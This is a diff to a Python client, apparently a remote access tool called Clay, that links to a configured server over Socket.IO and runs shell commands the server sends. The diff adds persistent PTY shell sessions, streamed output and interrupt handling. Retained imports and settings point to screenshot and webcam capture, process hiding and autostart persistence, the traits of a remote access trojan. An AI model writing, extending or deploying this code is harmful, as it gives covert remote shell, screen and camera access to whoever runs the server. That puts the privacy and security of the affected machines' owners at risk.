@@ -1,16 +1,22 @@
-import base64
+import codecs
 import ctypes
+import locale
 import logging
 import os
 import platform
 import random
+import select
+import shlex
+import signal
 import subprocess
 import sys
 import threading
 import time
-from concurrent.futures import ThreadPoolExecutor
+import uuid
+from concurrent.futures import Future, ThreadPoolExecutor
+from contextlib import contextmanager
 from io import BytesIO
-from typing import Tuple, Optional, Any, Dict, List
+from typing import Tuple, Optional, Any, Callable, Dict, List, Iterator, Set
 
 # 第三方库导入
 import cv2
@@ -21,10 +27,13 @@ from mss import mss
 
 # 导入配置项
 from config import (
-    SERVER_URL, HEARTBEAT_INTERVAL, RECONNECT_DELAY, SCREENSHOT_INTERVAL,
+    SERVER_URL, HEARTBEAT_ENABLED, HEARTBEAT_INTERVAL, RECONNECT_DELAY, SCREENSHOT_INTERVAL,
     SCREENSHOT_QUALITY, SCREENSHOT_SCALE, HIDE_PROCESS, PROCESS_NAME,
     APP_NAME, LINUX_APP_NAME, MACOS_APP_NAME,
-    COMMAND_TIMEOUT, TEMP_DIR
+    COMMAND_TIMEOUT, COMMAND_WORKERS, COMMAND_QUEUE_LIMIT, DIRECTORY_LISTING_LIMIT, DIRECTORY_LISTING_BATCH,
+    SHELL_SESSION_ENABLED, SHELL_SESSION_SHELL, SHELL_SESSION_LIMIT, SHELL_SESSION_IDLE_TIMEOUT,
+    TELEMETRY_ENABLED, TELEMETRY_INTERVAL,
+    TEMP_DIR, OUTPUT_CHUNK_SIZE, OUTPUT_FLUSH_INTERVAL, SOCKETIO_SERIALIZER
 )
 
 # 配置日志
@@ -38,6 +47,14 @@ logging.basicConfig(
 )
 logger = logging.getLogger('ClayClient')
 
+SHELL_OPERATORS = ('&', '|', ';', '<', '>', '\n')  # 含这些符号的cd/ls交给shell执行
+
+# 命令在独立的进程组中运行，中断/超时时终止整个进程组（包括shell启动的子进程）
+if platform.system() == "Windows":
+    PROCESS_GROUP_OPTIONS = {'creationflags': subprocess.CREATE_NEW_PROCESS_GROUP}
+else:
+    PROCESS_GROUP_OPTIONS = {'start_new_session': True}
+
 
 class ThreadSafeState:
     """线程安全的状态管理器"""
@@ -55,9 +72,130 @@ class ThreadSafeState:
             return self._state.get(key, default)
 
 
+class TerminalOutputStream:
+    """终端输出流：合并输出后按大小或时间分块发送
+
+    每个分块携带递增的序号、所属命令ID（由当前线程绑定）、输出流类型和首次写入时间戳，
+    命令ID或流类型变化时先发送已缓冲的内容，保证分块不跨命令、不混合流。
+    """
+
+    STDOUT = 'stdout'
+    STDERR = 'stderr'
+    SYSTEM = 'system'  # Clay自身的提示信息
+
+    def __init__(self, sio_client, chunk_size: int = OUTPUT_CHUNK_SIZE,
+                 flush_interval: float = OUTPUT_FLUSH_INTERVAL):
+        self.sio = sio_client
+        self.chunk_size = chunk_size
+        self.flush_interval = flush_interval
+        self._cond = threading.Condition()
+        self._local = threading.local()
+        self._parts: List[str] = []
+        self._size = 0
+        self._command_id: Optional[str] = None
+        self._stream = self.SYSTEM
+        self._timestamp = 0.0
+        self._sequence = 0
+        self._deadline: Optional[float] = None
+        self._thread = threading.Thread(target=self._flush_loop, daemon=True)
+        self._thread.start()
+
+    @contextmanager
+    def command(self, command_id: Optional[str]) -> Iterator[None]:
+        """将当前线程的输出绑定到指定命令ID"""
+        previous = getattr(self._local, 'command_id', None)
+        self._local.command_id = command_id
+        try:
+            yield
+        finally:
+            self.flush()
+            self._local.command_id = previous
+
+    def current_command_id(self) -> Optional[str]:
+        return getattr(self._local, 'command_id', None)
+
+    def write(self, text: str, stream: str = SYSTEM) -> None:
+        if not text:
+            return
+        command_id = getattr(self._local, 'command_id', None)
+        with self._cond:
+            if self._parts and (command_id != self._command_id or stream != self._stream):
+                self._flush_locked()
+            if not self._parts:
+                self._timestamp = time.time()
+            self._command_id = command_id
+            self._stream = stream
+            self._parts.append(text)
+            self._size += len(text)
+            if self._size >= self.chunk_size:
+                self._flush_locked()
+            elif self._deadline is None:
+                self._deadline = time.monotonic() + self.flush_interval
+                self._cond.notify()
+
+    def flush(self) -> None:
+        with self._cond:
+            self._flush_locked()
+
+    def _flush_locked(self) -> None:
+        if not self._parts:
+            return
+        chunk = {
+            'command_id': self._command_id,
+            'seq': self._sequence,
+            'stream': self._stream,
+            'timestamp': self._timestamp,
+            'output': ''.join(self._parts)
+        }
+        self._sequence += 1
+        self._parts = []
+        self._size = 0
+        self._deadline = None
+        try:
+            self.sio.emit('terminal_output', chunk)
+        except Exception as e:
+            logger.error(f"终端输出发送失败: {e}")
+
+    def _flush_loop(self) -> None:
+        while True:
+            with self._cond:
+                while self._deadline is None:
+                    self._cond.wait()
+                remaining = self._deadline - time.monotonic()
+                if remaining > 0:
+                    self._cond.wait(remaining)
+                    continue
+                self._flush_locked()
+
+
+class OrjsonModule:
+    """把orjson适配为json模块接口（Socket.IO编码时会传入separators等参数）"""
+
+    def __init__(self):
+        import orjson
+        self._orjson = orjson
+
+    def dumps(self, obj: Any, **kwargs: Any) -> str:
+        return self._orjson.dumps(obj).decode('utf-8')
+
+    def loads(self, data: Any, **kwargs: Any) -> Any:
+        return self._orjson.loads(data)
+
+
 class ConfigManager:
     """配置管理器"""
 
+    @staticmethod
+    def get_serializer_options(name: str) -> Dict[str, Any]:
+        """创建Socket.IO客户端时的序列化参数（须与服务器的SOCKETIO_SERIALIZER一致）"""
+        if name == 'orjson':
+            return {'json': OrjsonModule()}
+        if name == 'msgpack':
+            return {'serializer': 'msgpack'}
+        if name != 'json':
+            raise ValueError(f"不支持的序列化方式: {name}")
+        return {}
+
     @staticmethod
     def get_script_path() -> Optional[str]:
         try:
@@ -345,14 +483,170 @@ X-GNOME-Autostart-enabled=true
             return False, f"macOS 检查自启动失败: {str(e)}"
 
 
+class ShellSession:
+    """持久shell会话（仅Linux/macOS）：命令在同一个shell进程中依次执行，保留工作目录与环境变量
+
+    shell的输出连接到PTY（命令按终端方式行缓冲，输出即时到达），命令通过标准输入写入；
+    每条命令后输出一行带随机标记的结束行（返回码与当前目录），读到该行即认为命令完成。
+    命令在shell函数中执行，中断时向shell发送SIGINT使函数返回（跳过命令的剩余部分），shell本身保留。
+    """
+
+    # 命令之外忽略SIGINT（避免中断恰好在命令间到达时结束shell），命令执行期间SIGINT使函数返回130
+    PRELUDE = (
+        "trap '' INT\n"
+        "__clay_run() { trap 'trap \"\" INT; return 130' INT; command eval \"$1\" </dev/null; "
+        "__clay_rc=$?; trap '' INT; return $__clay_rc; }\n"
+    )
+
+    def __init__(self, shell: str, cwd: str):
+        import termios
+        master, slave = os.openpty()
+        attrs = termios.tcgetattr(slave)
+        attrs[1] &= ~termios.OPOST  # 输出不做\n到\r\n的转换
+        termios.tcsetattr(slave, termios.TCSANOW, attrs)
+        try:
+            # 标准输入不是终端，shell以非交互方式运行（无提示符、无回显）
+            self.process = subprocess.Popen(
+                [shell],
+                stdin=subprocess.PIPE,
+                stdout=slave,
+                stderr=slave,
+                cwd=cwd,
+                env=dict(os.environ, TERM='dumb', PAGER='cat', GIT_PAGER='cat'),
+                start_new_session=True
+            )
+        except Exception:
+            os.close(master)
+            raise
+        finally:
+            os.close(slave)
+        self.fd = master
+        self.closed = False
+        self.marker = f"__CLAY_DONE_{uuid.uuid4().hex}__"
+        self.lock = threading.Lock()  # 会话同一时间只执行一条命令
+        self.last_used = time.monotonic()
+        self.encoding = locale.getpreferredencoding(False)
+        self._decoder = codecs.getincrementaldecoder(self.encoding)(errors='replace')
+        self.process.stdin.write(self.PRELUDE.encode())
+        self.process.stdin.flush()
+
+    def alive(self) -> bool:
+        return self.process.poll() is None
+
+    def run(self, command: str, write: Callable[[str], None],
+            timeout: float) -> Tuple[Optional[int], Optional[str], bool]:
+        """执行命令并流式输出，返回 (返回码, 当前目录, 是否超时)；shell已退出时返回码为None"""
+        self.last_used = time.monotonic()
+        script = (f"__clay_run {shlex.quote(command)}\n"
+                  f"printf '\\n{self.marker} %d %s\\n' \"$?\" \"$PWD\"\n")
+        try:
+            self.process.stdin.write(script.encode(self.encoding, errors='replace'))
+            self.process.stdin.flush()
+        except OSError:
+            self.close()
+            return None, None, False
+
+        pending = ''
+        keep = len(self.marker) + 1  # 保留可能是结束行开头的尾部，其余内容立即输出
+        deadline = time.monotonic() + timeout
+        timed_out = False
+        while True:
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                if timed_out:
+                    # 终止子进程后仍未结束，放弃该会话
+                    write(pending)
+                    self.close()
+                    return None, None, True
+                timed_out = True
+                self.interrupt()
+                deadline = time.monotonic() + 2
+                continue
+            ready, _, _ = select.select([self.fd], [], [], remaining)
+            if not ready:
+                continue
+            try:
+                data = os.read(self.fd, 4096)
+            except OSError:
+                data = b''  # shell退出后Linux上读PTY会返回EIO
+            if not data:
+                write(pending + self._decoder.decode(b'', final=True))
+                self.close()
+                return None, None, timed_out
+            pending += self._decoder.decode(data)
+            index = pending.find(self.marker)
+            if index >= 0:
+                line_end = pending.find('\n', index)
+                if line_end < 0:
+                    continue
+                output = pending[:index]
+                write(output[:-1] if output.endswith('\n') else output)  # 去掉printf补的换行
+                return_code, _, cwd = pending[index + len(self.marker):line_end].strip().partition(' ')
+                self.last_used = time.monotonic()
+                return int(return_code), cwd, timed_out
+            if len(pending) > keep:
+                write(pending[:-keep])
+                pending = pending[-keep:]
+
+    def interrupt(self) -> None:
+        """终止正在执行的命令（shell的全部子进程），shell本身及其状态保留"""
+        try:
+            os.kill(self.process.pid, signal.SIGINT)  # 先让shell放弃命令的剩余部分
+            children = psutil.Process(self.process.pid).children(recursive=True)
+        except (ProcessLookupError, psutil.NoSuchProcess):
+            return
+        for child in children:
+            try:
+                child.kill()
+            except psutil.NoSuchProcess:
+                pass
+
+    def close(self) -> None:
+        """结束shell及其启动的所有进程（可重复调用）"""
+        if self.closed:
+            return
+        self.closed = True
+        try:
+            os.killpg(self.process.pid, signal.SIGKILL)
+        except (ProcessLookupError, PermissionError):
+            pass
+        try:
+            self.process.wait(timeout=1)
+            self.process.stdin.close()
+        except Exception as e:
+            logger.debug(f"关闭shell会话: {e}")
+        try:
+            os.close(self.fd)
+        except OSError:
+            pass
+
+
 class CommandExecutor:
     """命令执行器"""
 
-    def __init__(self, sio_client):
+    def __init__(self, sio_client, output: TerminalOutputStream):
         self.sio = sio_client
-        self.current_working_directory = os.getcwd()
-        self.current_processes = set()
-        self.max_concurrent_commands = 5  # 限制最大并发命令数
+        self.output = output
+        # 工作目录只保存在这里（不调用os.chdir，命令并行执行时互不影响），每条命令开始时读取一次
+        self._cwd = os.getcwd()
+        self._cwd_lock = threading.Lock()
+        self._lock = threading.Lock()
+        self.running: Dict[str, Any] = {}                         # 命令ID -> 正在执行的进程或shell会话
+        self.active: Set[str] = set()                              # 调度器已接受、尚未结束的命令ID（可能尚未启动进程）
+        self._interrupts: Dict[str, Tuple[float, Any]] = {}      # 命令ID -> (收到中断的时间, 服务器转发时间)
+        self.sessions: Dict[str, ShellSession] = {}               # 会话ID（Web终端）-> 持久shell
+        self.shell_sessions_enabled = SHELL_SESSION_ENABLED and platform.system() != "Windows"
+        if SHELL_SESSION_ENABLED and not self.shell_sessions_enabled:
+            logger.warning("持久shell会话仅支持Linux/macOS，将按命令启动独立进程")
+
+    @property
+    def current_working_directory(self) -> str:
+        with self._cwd_lock:
+            return self._cwd
+
+    def _set_working_directory(self, path: str) -> None:
+        with self._cwd_lock:
+            self._cwd = path
 
     def execute_shutdown(self, args=None) -> Tuple[bool, str]:
         logger.info("收到关机命令，准备执行...")
@@ -393,91 +687,124 @@ class CommandExecutor:
             self.sio.emit('command_result', {'command': 'lock', 'success': False, 'message': f'执行锁屏命令失败: {e}'})
             return False, f"执行锁屏命令失败: {e}"
 
-    def execute_shell_command(self, command: str) -> None:
+    def execute_shell_command(self, command: str, session_id: Optional[str] = None) -> None:
         logger.info(f"准备执行shell命令: [{command}]")
 
-        # 限制并发命令数
-        if len(self.current_processes) >= self.max_concurrent_commands:
-            logger.warning("达到最大并发命令数，拒绝执行新命令")
-            self.sio.emit('terminal_output', {'output': "[CLAY] ⚠️ 达到最大并发命令数，拒绝执行新命令\n"})
-            return
-
         start_time = time.time()
-        self.sio.emit('terminal_output', {'output': f"\n[CLAY] 🚀 执行命令: {command}\n"})
-        self.sio.emit('terminal_output', {'output': "--------------------------------------------\n"})
-
-        # 特殊处理cd命令
-        if command.strip().lower().startswith('cd '):
-            self._handle_cd_command(command, start_time)
+        cwd = self.current_working_directory
+        self.output.write(f"\n[CLAY] 🚀 执行命令: {command}\n")
+        self.output.write("--------------------------------------------\n")
+
+        # 持久shell会话（会话正忙或不可用时按命令启动独立进程）
+        session = self._acquire_session(session_id, cwd)
+        if session:
+            self._execute_in_session(session, command, start_time)
             return
 
+        # cd与不带参数的ls/dir在进程内处理，不启动子进程
+        stripped = command.strip()
+        name, _, argument = stripped.partition(' ')
+        if not any(operator in stripped for operator in SHELL_OPERATORS):
+            if name.lower() == 'cd':
+                self._handle_cd_command(argument.strip(), cwd, start_time)
+                return
+            if stripped.lower() in ('ls', 'dir'):
+                self._handle_list_command(cwd, start_time)
+                return
+
         # 执行普通命令
-        self._execute_regular_command(command, start_time)
+        self._execute_regular_command(command, cwd, start_time)
 
-    def _handle_cd_command(self, command: str, start_time: float) -> None:
+    def _handle_cd_command(self, target_dir: str, cwd: str, start_time: float) -> None:
         try:
-            target_dir = command[3:].strip()
             logger.debug(f"处理cd命令，目标目录: {target_dir}")
-
-            # 处理Windows环境变量
-            if '%' in target_dir:
-                process = subprocess.Popen(
-                    f'echo {target_dir}',
-                    shell=True,
-                    stdout=subprocess.PIPE,
-                    stderr=subprocess.PIPE,
-                    text=True
-                )
-                output, _ = process.communicate()
-                target_dir = output.strip()
+            if platform.system() == "Windows" and target_dir.lower().startswith('/d '):
+                target_dir = target_dir[3:].strip()  # cd /d 同时切换驱动器
+            if len(target_dir) >= 2 and target_dir[0] == target_dir[-1] and target_dir[0] in '"\'':
+                target_dir = target_dir[1:-1]
+
+            if not target_dir:
+                if platform.system() == "Windows":
+                    # Windows下不带参数的cd显示当前目录
+                    self.output.write(f"{cwd}\n")
+                    self._write_builtin_result(True, start_time)
+                    return
+                target_dir = '~'
+
+            # 展开环境变量（$VAR、${VAR}，Windows下还有%VAR%）与用户目录
+            target_dir = os.path.expanduser(os.path.expandvars(target_dir))
 
             # 处理相对路径
             if not os.path.isabs(target_dir):
-                target_dir = os.path.join(self.current_working_directory, target_dir)
+                target_dir = os.path.join(cwd, target_dir)
 
             # 尝试切换目录
-            if os.path.exists(target_dir) and os.path.isdir(target_dir):
-                os.chdir(target_dir)
-                self.current_working_directory = os.getcwd()
-                logger.info(f"已切换到目录: {self.current_working_directory}")
-
-                self.sio.emit('terminal_output', {'output': f"已切换到目录: {self.current_working_directory}\n"})
-
-                # 显示目录内容
-                process = subprocess.Popen(
-                    'dir' if platform.system() == "Windows" else 'ls',
-                    shell=True,
-                    stdout=subprocess.PIPE,
-                    stderr=subprocess.PIPE,
-                    text=True,
-                    cwd=self.current_working_directory
-                )
-                stdout, stderr = process.communicate()
-                self.sio.emit('terminal_output', {'output': stdout})
-                if stderr:
-                    self.sio.emit('terminal_output', {'output': f"错误: {stderr}\n"})
-
-                self._update_terminal_prompt()
-                end_time = time.time()
-                self.sio.emit('terminal_output',
-                              {'output': f"\n[CLAY] ✅ 命令执行成功 (耗时: {end_time - start_time:.2f}秒)\n"})
-                return
-            else:
+            if not os.path.isdir(target_dir):
                 logger.warning(f"目录不存在: {target_dir}")
-                self.sio.emit('terminal_output', {'output': f"错误: 目录不存在 - {target_dir}\n"})
-                end_time = time.time()
-                self.sio.emit('terminal_output',
-                              {'output': f"\n[CLAY] ❌ 命令执行失败 (耗时: {end_time - start_time:.2f}秒)\n"})
+                self.output.write(f"错误: 目录不存在 - {target_dir}\n")
+                self._write_builtin_result(False, start_time)
                 return
+            if not os.access(target_dir, os.X_OK):
+                logger.warning(f"没有权限进入目录: {target_dir}")
+                self.output.write(f"错误: 没有权限进入目录 - {target_dir}\n")
+                self._write_builtin_result(False, start_time)
+                return
+
+            target_dir = os.path.realpath(target_dir)
+            self._set_working_directory(target_dir)
+            logger.info(f"已切换到目录: {target_dir}")
+            self.output.write(f"已切换到目录: {target_dir}\n")
+
+            # 显示目录内容
+            self._write_directory_listing(target_dir)
+            self._update_terminal_prompt()
+            self._write_builtin_result(True, start_time)
         except Exception as e:
             logger.error(f"处理cd命令时出错: {str(e)}")
-            self.sio.emit('terminal_output', {'output': f"处理cd命令时出错: {str(e)}\n"})
-            end_time = time.time()
-            self.sio.emit('terminal_output',
-                          {'output': f"\n[CLAY] ❌ 命令执行失败 (耗时: {end_time - start_time:.2f}秒)\n"})
-            return
+            self.output.write(f"处理cd命令时出错: {str(e)}\n")
+            self._write_builtin_result(False, start_time)
+
+    def _handle_list_command(self, cwd: str, start_time: float) -> None:
+        success = self._write_directory_listing(cwd)
+        self._write_builtin_result(success, start_time)
 
-    def _execute_regular_command(self, command: str, start_time: float) -> None:
+    def _write_directory_listing(self, path: str) -> bool:
+        """用os.scandir列出目录内容：最多收集上限条，整体按名称排序后分批输出（目录名带路径分隔符）"""
+        names: List[str] = []
+        truncated = False
+        try:
+            with os.scandir(path) as entries:
+                for entry in entries:
+                    if len(names) >= DIRECTORY_LISTING_LIMIT:
+                        truncated = True
+                        break
+                    try:
+                        is_dir = entry.is_dir()
+                    except OSError:
+                        is_dir = False
+                    names.append(entry.name + os.sep if is_dir else entry.name)
+        except OSError as e:
+            logger.error(f"列出目录内容出错: {str(e)}")
+            self.output.write(f"错误: 无法列出目录内容 - {str(e)}\n", TerminalOutputStream.STDERR)
+            return False
+        names.sort(key=str.lower)
+        for start in range(0, len(names), DIRECTORY_LISTING_BATCH):
+            self.output.write('\n'.join(names[start:start + DIRECTORY_LISTING_BATCH]) + '\n',
+                              TerminalOutputStream.STDOUT)
+        if truncated:
+            self.output.write(f"[CLAY] ℹ️ 目录条目过多，仅显示前{DIRECTORY_LISTING_LIMIT}项\n")
+        else:
+            self.output.write(f"共 {len(names)} 项\n")
+        return True
+
+    def _write_builtin_result(self, success: bool, start_time: float) -> None:
+        end_time = time.time()
+        if success:
+            self.output.write(f"\n[CLAY] ✅ 命令执行成功 (耗时: {end_time - start_time:.2f}秒)\n")
+        else:
+            self.output.write(f"\n[CLAY] ❌ 命令执行失败 (耗时: {end_time - start_time:.2f}秒)\n")
+
+    def _execute_regular_command(self, command: str, cwd: str, start_time: float) -> None:
         try:
             logger.debug(f"执行普通命令: {command}")
             process = subprocess.Popen(
@@ -485,77 +812,272 @@ class CommandExecutor:
                 shell=True,
                 stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE,
-                text=True,
-                bufsize=1,
-                universal_newlines=True,
-                cwd=self.current_working_directory
+                bufsize=0,
+                cwd=cwd,
+                **PROCESS_GROUP_OPTIONS
             )
 
-            self.current_processes.add(process)
-            line_count = 0
+            command_id = self.output.current_command_id()
+            key = command_id or f"pid-{process.pid}"
+            if self._register(key, process):
+                logger.info(f"中断命令: {key}")
+                self._kill_process_group(process)
+            line_counts = {TerminalOutputStream.STDOUT: 0, TerminalOutputStream.STDERR: 0}
+
+            # 同时读取标准输出和错误输出，避免任一管道写满导致死锁
+            readers = [
+                threading.Thread(target=self._pump_stream, daemon=True,
+                                 args=(pipe, stream, command_id, line_counts))
+                for pipe, stream in ((process.stdout, TerminalOutputStream.STDOUT),
+                                     (process.stderr, TerminalOutputStream.STDERR))
+            ]
+            for reader in readers:
+                reader.start()
 
             try:
-                # 实时发送标准输出
-                for line in process.stdout:
-                    output = line.rstrip()
-                    line_count += 1
-                    self.sio.emit('terminal_output', {'output': output + '\n'})
-
-                # 发送错误输出
-                stderr_lines = 0
-                for line in process.stderr:
-                    output = line.rstrip()
-                    stderr_lines += 1
-                    if stderr_lines == 1:
-                        self.sio.emit('terminal_output', {'output': "\n[CLAY] ⚠️ 错误输出:\n"})
-                    self.sio.emit('terminal_output', {'output': "  " + output + '\n'})
-
                 # 等待进程完成
                 return_code = process.wait(timeout=COMMAND_TIMEOUT)
+                for reader in readers:
+                    reader.join()
+                line_count = line_counts[TerminalOutputStream.STDOUT]
                 execution_time = time.time() - start_time
 
-                self.sio.emit('terminal_output', {'output': "--------------------------------------------\n"})
-                if return_code == 0:
-                    if line_count > 0:
-                        logger.info(f"命令执行成功，输出{line_count}行，耗时{execution_time:.2f}秒")
-                        self.sio.emit('terminal_output', {
-                            'output': f"[CLAY] ✅ 命令执行成功 (耗时: {execution_time:.2f}秒, 输出: {line_count}行)\n\n"})
-                    else:
-                        logger.info(f"命令执行成功，无输出，耗时{execution_time:.2f}秒")
-                        self.sio.emit('terminal_output',
-                                      {'output': f"[CLAY] ✅ 命令执行成功，无输出 (耗时: {execution_time:.2f}秒)\n\n"})
+                self.output.write("--------------------------------------------\n")
+                interrupt = self._finish(key)
+                if interrupt:
+                    self._report_interrupted(key, interrupt, return_code)
                 else:
-                    logger.warning(f"命令返回错误代码: {return_code}，耗时{execution_time:.2f}秒")
-                    self.sio.emit('terminal_output',
-                                  {
-                                      'output': f"[CLAY] ❌ 命令返回错误代码: {return_code} (耗时: {execution_time:.2f}秒)\n\n"})
+                    self._write_result(return_code, line_count, execution_time)
 
             except subprocess.TimeoutExpired:
                 logger.error(f"命令执行超时({COMMAND_TIMEOUT}秒)，已强制终止: {command}")
-                process.kill()
-                self.sio.emit('terminal_output',
-                              {'output': f"\n[CLAY] ⏱️ 命令执行超时({COMMAND_TIMEOUT}秒)，已强制终止\n\n"})
-
-            if process in self.current_processes:
-                self.current_processes.remove(process)
+                self._kill_process_group(process)
+                process.wait()
+                for reader in readers:
+                    reader.join(timeout=1)
+                self._finish(key)
+                self.output.write(f"\n[CLAY] ⏱️ 命令执行超时({COMMAND_TIMEOUT}秒)，已强制终止\n\n")
 
         except Exception as e:
             logger.error(f"执行命令出错: {str(e)}")
-            if 'process' in locals() and process in self.current_processes:
-                self.current_processes.remove(process)
+            if 'key' in locals():
+                self._finish(key)
             error_message = f"\n[CLAY] 🛑 执行出错: {str(e)}\n\n"
-            self.sio.emit('terminal_output', {'output': error_message})
+            self.output.write(error_message)
+
+    def _execute_in_session(self, session: ShellSession, command: str, start_time: float) -> None:
+        """在持久shell会话中执行命令（输出经PTY合并为一个流）"""
+        key = self.output.current_command_id() or f"session-{session.process.pid}"
+        line_count = 0
+
+        def write(text: str) -> None:
+            nonlocal line_count
+            line_count += text.count('\n')
+            self.output.write(text, TerminalOutputStream.STDOUT)
+
+        if self._register(key, session):
+            # 启动前已收到中断，不再执行
+            session.lock.release()
+            self.output.write("--------------------------------------------\n")
+            self._report_interrupted(key, self._finish(key), 130)
+            return
+        try:
+            return_code, cwd, timed_out = session.run(command, write, COMMAND_TIMEOUT)
+        except Exception as e:
+            logger.error(f"shell会话执行命令出错: {str(e)}", exc_info=True)
+            session.close()
+            self._finish(key)
+            self.output.write(f"\n[CLAY] 🛑 执行出错: {str(e)}\n\n")
+            return
+        finally:
+            session.lock.release()
+
+        execution_time = time.time() - start_time
+        interrupt = self._finish(key)
+        self.output.write("--------------------------------------------\n")
+        if cwd and cwd != self.current_working_directory:
+            self._set_working_directory(cwd)
+            self._update_terminal_prompt()
+        if interrupt:
+            self._report_interrupted(key, interrupt, return_code)
+        elif timed_out:
+            logger.error(f"命令执行超时({COMMAND_TIMEOUT}秒)，已强制终止: {command}")
+            self.output.write(f"[CLAY] ⏱️ 命令执行超时({COMMAND_TIMEOUT}秒)，已强制终止\n\n")
+        elif return_code is None:
+            logger.warning(f"shell会话已退出: {command}")
+            self.output.write("[CLAY] ⚠️ shell会话已退出，下一条命令将启动新的会话\n\n")
+        else:
+            self._write_result(return_code, line_count, execution_time)
+
+    def _acquire_session(self, session_id: Optional[str], cwd: str) -> Optional[ShellSession]:
+        """取得会话ID对应的空闲shell（不存在时在cwd启动），返回时已持有会话锁；不可用时返回None"""
+        if not self.shell_sessions_enabled or not session_id:
+            return None
+        now = time.monotonic()
+        closing = []
+        with self._lock:
+            # 关闭空闲超时与已退出的会话
+            for key, session in list(self.sessions.items()):
+                if not session.alive() or (now - session.last_used > SHELL_SESSION_IDLE_TIMEOUT
+                                           and not session.lock.locked()):
+                    closing.append(self.sessions.pop(key))
+            session = self.sessions.get(session_id)
+            if session is None:
+                if len(self.sessions) >= SHELL_SESSION_LIMIT:
+                    idle = [key for key, item in self.sessions.items() if not item.lock.locked()]
+                    if not idle:
+                        return None
+                    closing.append(self.sessions.pop(min(idle, key=lambda key: self.sessions[key].last_used)))
+                try:
+                    session = ShellSession(SHELL_SESSION_SHELL if os.path.exists(SHELL_SESSION_SHELL) else '/bin/sh',
+                                           cwd)
+                except Exception as e:
+                    logger.error(f"启动shell会话失败: {str(e)}", exc_info=True)
+                    return None
+                self.sessions[session_id] = session
+                logger.info(f"已启动shell会话: {session_id} (PID: {session.process.pid})")
+            if not session.lock.acquire(blocking=False):
+                logger.info(f"shell会话正忙，命令将在独立进程中执行: {session_id}")
+                session = None
+        for item in closing:
+            item.close()
+        return session
+
+    def close_sessions(self) -> None:
+        """关闭所有shell会话"""
+        with self._lock:
+            sessions = list(self.sessions.values())
+            self.sessions.clear()
+        for session in sessions:
+            session.close()
+
+    def _write_result(self, return_code: int, line_count: int, execution_time: float) -> None:
+        """输出命令执行结果"""
+        if return_code == 0:
+            if line_count > 0:
+                logger.info(f"命令执行成功，输出{line_count}行，耗时{execution_time:.2f}秒")
+                self.output.write(f"[CLAY] ✅ 命令执行成功 (耗时: {execution_time:.2f}秒, 输出: {line_count}行)\n\n")
+            else:
+                logger.info(f"命令执行成功，无输出，耗时{execution_time:.2f}秒")
+                self.output.write(f"[CLAY] ✅ 命令执行成功，无输出 (耗时: {execution_time:.2f}秒)\n\n")
+        else:
+            logger.warning(f"命令返回错误代码: {return_code}，耗时{execution_time:.2f}秒")
+            self.output.write(f"[CLAY] ❌ 命令返回错误代码: {return_code} (耗时: {execution_time:.2f}秒)\n\n")
+
+    def _register(self, key: str, target: Any) -> bool:
+        """登记刚启动的进程或会话，返回启动前是否已收到该命令的中断请求"""
+        with self._lock:
+            self.running[key] = target
+            return key in self._interrupts
+
+    def accept(self, command_id: str) -> None:
+        """登记已接受的命令（之后、进程启动前收到的中断会被记下，进程启动后立即执行）"""
+        with self._lock:
+            self.active.add(command_id)
+
+    def end(self, command_id: str) -> None:
+        """命令处理结束，清除其记录（包括未启动进程的命令上未生效的中断）"""
+        with self._lock:
+            self.active.discard(command_id)
+            self.running.pop(command_id, None)
+            self._interrupts.pop(command_id, None)
+
+    def _finish(self, key: str) -> Optional[Tuple[float, Any]]:
+        """命令结束后移除进程记录，返回其中断请求（未被中断时为None）"""
+        with self._lock:
+            self.running.pop(key, None)
+            return self._interrupts.pop(key, None)
+
+    def interrupt(self, command_ids: List[str], requested_at: Any = None) -> List[str]:
+        """终止指定命令的进程组（shell会话中的命令则终止shell的子进程），返回实际被中断的命令ID
+
+        已接受但尚未启动进程的命令只记下中断请求，由进程启动后的_register检查并执行。
+        """
+        received_at = time.monotonic()
+        targets = []
+        deferred = []
+        with self._lock:
+            for key in command_ids:
+                target = self.running.get(key)
+                if key in self._interrupts or (target is None and key not in self.active):
+                    continue
+                self._interrupts[key] = (received_at, requested_at)
+                if target is None:
+                    deferred.append(key)
+                else:
+                    targets.append((key, target))
+        for key, target in targets:
+            logger.info(f"中断命令: {key}")
+            if isinstance(target, ShellSession):
+                target.interrupt()
+            else:
+                self._kill_process_group(target)
+        for key in deferred:
+            logger.info(f"命令尚未启动进程，启动后立即中断: {key}")
+        return [key for key, _ in targets] + deferred
+
+    @staticmethod
+    def _kill_process_group(process: subprocess.Popen) -> None:
+        """强制终止进程及其所在进程组"""
+        try:
+            if platform.system() == "Windows":
+                subprocess.run(['taskkill', '/F', '/T', '/PID', str(process.pid)],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            else:
+                os.killpg(process.pid, signal.SIGKILL)
+        except (ProcessLookupError, PermissionError):
+            pass  # 进程已退出
+        except Exception as e:
+            logger.error(f"终止进程组失败: {e}")
+            process.kill()
+
+    def _report_interrupted(self, command_id: str, interrupt: Tuple[float, Any], return_code: int) -> None:
+        """输出中断结果，并把从收到中断到进程退出的耗时回报给服务器"""
+        received_at, requested_at = interrupt
+        latency = time.monotonic() - received_at
+        logger.info(f"命令已中断: {command_id}，返回代码{return_code}，耗时{latency * 1000:.1f}毫秒")
+        self.output.write(f"[CLAY] ⛔ 命令已中断 (返回代码: {return_code}, 中断耗时: {latency * 1000:.0f}毫秒)\n\n")
+        self.report_interrupt(command_id, 'killed', requested_at, latency)
+
+    def report_interrupt(self, command_id: str, state: str, requested_at: Any, latency: float) -> None:
+        """向服务器确认中断（state: killed 已终止进程 / cancelled 已取消排队）"""
+        try:
+            self.sio.emit('command_interrupted', {
+                'command_id': command_id,
+                'state': state,
+                'requested_at': requested_at,
+                'client_latency': latency
+            })
+        except Exception as e:
+            logger.error(f"中断确认发送失败: {e}")
+
+    def _pump_stream(self, pipe, stream: str, command_id: Optional[str], line_counts: Dict[str, int]) -> None:
+        """读取管道中已到达的数据（不等待整行），按流类型写入终端输出"""
+        decoder = codecs.getincrementaldecoder(locale.getpreferredencoding(False))(errors='replace')
+        with self.output.command(command_id):
+            try:
+                while True:
+                    data = pipe.read(4096)
+                    if not data:
+                        break
+                    line_counts[stream] += data.count(b'\n')
+                    self.output.write(decoder.decode(data).replace('\r\n', '\n'), stream)
+                self.output.write(decoder.decode(b'', final=True), stream)
+            except (OSError, ValueError) as e:
+                logger.debug(f"读取{stream}管道结束: {e}")
+            finally:
+                pipe.close()
 
     def execute_capture_webcam(self) -> Tuple[bool, str]:
